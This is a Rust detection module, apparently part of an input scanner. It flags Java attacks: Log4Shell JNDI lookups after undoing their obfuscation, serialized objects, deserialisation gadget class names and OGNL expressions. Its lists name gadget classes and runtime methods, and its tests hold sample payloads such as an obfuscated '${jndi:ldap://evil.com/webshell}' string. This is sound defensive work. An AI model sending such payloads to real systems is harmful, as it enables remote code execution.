//! Java attacks: JNDI lookups (Log4Shell) after resolving the nested lookups
//! used to hide them (`${${lower:j}ndi:...}`, `${::-j}`), serialized Java
//! objects (`rO0AB`, `AC ED 00 05`), gadget and runtime class names,
//! OGNL/SpEL/EL expressions and Spring class-loader paths.

use super::Hit;

const MAX_RESOLVE_ROUNDS: usize = 8;

/// Replaces `${lower:x}`, `${upper:x}`, `${::-x}`, `${env:NAME:-x}`, `${date:'x'}`
/// with `x`, innermost first, as Log4j would.
fn resolve_lookups(s: &str) -> String {
    let mut cur = s.to_owned();
    for _ in 0..MAX_RESOLVE_ROUNDS {
        let Some(open) = innermost_open(&cur) else {
            break;
        };
        let Some(close_rel) = cur[open..].find('}') else {
            break;
        };
        let inner = &cur[open + 2..open + close_rel];
        let replacement = if let Some(idx) = inner.find(":-") {
            inner[idx + 2..].to_owned()
        } else if let Some(v) = inner
            .strip_prefix("lower:")
            .or_else(|| inner.strip_prefix("upper:"))
        {
            v.to_owned()
        } else if let Some(v) = inner.strip_prefix("date:") {
            v.trim_matches('\'').to_owned()
        } else {
            // A real lookup (`jndi:`, `env:`): mark it and stop expanding it.
            format!("\u{1}{inner}\u{2}")
        };
        cur.replace_range(open..open + close_rel + 1, &replacement);
    }
    cur.replace('\u{1}', "${").replace('\u{2}', "}")
}

/// The last `${` that has no `${` between it and the next `}`.
fn innermost_open(s: &str) -> Option<usize> {
    let close = s.find('}')?;
    s[..close].rfind("${")
}

const DANGEROUS_PACKAGES: &[&str] = &[
    "java.lang.",
    "java.io.",
    "java.net.",
    "java.nio.",
    "java.util.",
    "java.beans.",
    "java.rmi.",
    "javax.",
    "jdk.",
    "sun.",
    "com.sun.",
    "org.apache.",
    "org.springframework.",
    "org.codehaus.groovy",
    "com.opensymphony.",
    "bsh.",
    "org.hibernate.",
    "com.mchange.",
    "org.mozilla.javascript",
    "clojure.",
    "com.alibaba.fastjson",
    "org.python.",
    "org.omg.",
    "org.mozilla.",
    "org.eclipse.",
    "org.jboss.",
    "org.osgi.",
    "org.xml.sax",
    "org.w3c.dom",
    "com.ibm.",
    "weblogic.",
    "oracle.",
    "com.bea.",
    "org.aspectj",
    "org.slf4j",
    "org.quartz",
    "org.dom4j",
    "org.jdom",
    "com.thoughtworks.xstream",
    "com.caucho.",
    "com.google.common.",
    "net.sf.",
    "ognl.",
    "freemarker.",
    "org.jboss.",
    "com.fasterxml.",
    "net.sf.json",
    "org.yaml.snakeyaml",
];

pub(super) const RUNTIME_MARKERS: &[&str] = &[
    "runtime.getruntime",
    "processbuilder",
    "java.lang.runtime",
    "java.runtime",
    "clonetransformer",
    "invokertransformer",
    "chainedtransformer",
    "constanttransformer",
    "instantiatetransformer",
    "forname(",
    "getmethod(",
    ".invoke(",
    "classloader",
    "_memberaccess",
    "#context",
    "@java.lang",
    "ognlcontext",
    "class.module",
    "t(java.lang",
    "new java.",
    "scriptengine",
    "defineclass",
    "templatesimpl",
    "jdbcrowsetimpl",
];

/// Class-name endings of the functor objects that deserialisation gadget
/// chains (Commons Collections and its imitators) string together.
const FUNCTOR_SUFFIXES: &[&str] = &["transformer", "closure", "factory"];

/// `runtime` next to a compound functor class name (`forclosure`,
/// `prototypeclonefactory`, ...): the shape of a gadget chain that ends in
/// `Runtime.exec`. A bare word (`transformer`) is prose, so the suffix must
/// follow a prefix inside the same identifier.
fn names_functor_gadget(folded: &str) -> bool {
    if !folded.contains("runtime") {
        return false;
    }
    folded
        .split(|c: char| !c.is_ascii_alphanumeric())
        .any(|word| {
            FUNCTOR_SUFFIXES
                .iter()
                .any(|suffix| word.len() > suffix.len() + 1 && word.ends_with(suffix))
        })
}

/// `java.lang.Runtime`, `java.evil.ProcessBuilder`: a dotted class name
/// under `java` whose class is one of the two that start processes, whatever
/// package path was written between.
fn names_process_class(folded: &str) -> bool {
    folded
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '.' || c == '_' || c == '$'))
        .any(|name| {
            let mut parts = name.split('.');
            parts.next() == Some("java")
                && matches!(parts.next_back(), Some("runtime" | "processbuilder"))
        })
}

/// Looks for Java attack markers in a value (`text` case kept for base64).
pub fn detect(folded: &str, text: &str, hits: &mut Vec<Hit>) {
    if folded.contains("${") {
        let resolved = resolve_lookups(folded);
        let compact: String = resolved.chars().filter(|c| !c.is_whitespace()).collect();
        if [
            "${jndi:",
            "${ctx:",
            "${main:",
            "${sys:",
            "${env:",
            "${java:",
            "${spring:",
            "${k8s:",
            "${docker:",
            "${web:",
            "${base64:",
            "${bundle:",
        ]
        .iter()
        .any(|p| compact.contains(p))
        {
            let rule = if compact.contains("${jndi:") {
                "java.jndi_lookup"
            } else {
                "java.log4j_lookup"
            };
            hits.push(Hit::new(rule, 5.0, 0.95, 1));
            return;
        }
    }
    if ["rO0AB", "KztAAU", "Cs7QAF"]
        .iter()
        .any(|m| text.contains(m))
        || text.contains("\u{ac}\u{ed}\u{0}\u{5}")
        || text.contains("H4sIAAAAAAAA") && text.len() > 40
    {
        hits.push(Hit::new("java.serialized_object", 5.0, 0.85, 1));
        return;
    }
    if RUNTIME_MARKERS.iter().any(|m| folded.contains(m))
        || folded.contains("%{(#")
        || folded.contains("%{#")
    {
        hits.push(Hit::new("java.runtime_access", 5.0, 0.9, 1));
        return;
    }
    if names_process_class(folded) {
        hits.push(Hit::new("java.runtime_access", 5.0, 0.8, 1));
        return;
    }
    if names_functor_gadget(folded) {
        hits.push(Hit::new("java.gadget_chain", 5.0, 0.85, 1));
        return;
    }
    if let Some(pkg) = DANGEROUS_PACKAGES.iter().find(|p| folded.contains(*p)) {
        // A fully-qualified class: the package followed by a class name.
        let at = folded.find(pkg).unwrap_or(0) + pkg.len();
        if folded[at..]
            .bytes()
            .next()
            .is_some_and(|b| b.is_ascii_alphabetic())
        {
            hits.push(Hit::new("java.class_name", 5.0, 0.75, 1));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fires(s: &str) -> bool {
        super::super::fires(detect, s)
    }

    #[test]
    fn resolves_nested_lookups() {
        assert_eq!(
            resolve_lookups("${${lower:j}${::-n}di:ldap://x/a}"),
            "${jndi:ldap://x/a}"
        );
        assert!(fires("${${lower:j}ndi:ldap://evil.com/webshell}"));
        assert!(fires("${jndi:ldap://evil.com/webshell}"));
    }

    #[test]
    fn catches_deserialisation_and_classes() {
        assert!(fires("rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ"));
        assert!(fires("java.io.BufferedReader"));
        assert!(fires("com.opensymphony.xwork2"));
        assert!(fires("%{(#nike='multipart/form-data').(#dm=@ognl"));
        assert!(!fires("I love java. It is fun"));
        assert!(!fires("price is ${price}"));
    }

    #[test]
    fn catches_functor_gadget_names_next_to_runtime() {
        assert!(fires("runtime.whileclosure"));
        assert!(fires("Runtime.PrototypeSerializationFactory"));
        assert!(!fires("runtime.whilestatement"));
        assert!(!fires("transformer runtime was 2 hours"));
        assert!(!fires("beanfactory settings"));
    }

    #[test]
    fn catches_process_classes_under_any_java_package() {
        assert!(fires("java.evil.runtime"));
        assert!(fires("x=java.lang.ProcessBuilder"));
        assert!(!fires("java runtime environment 21"));
        assert!(!fires("javascript.runtime"));
    }
}
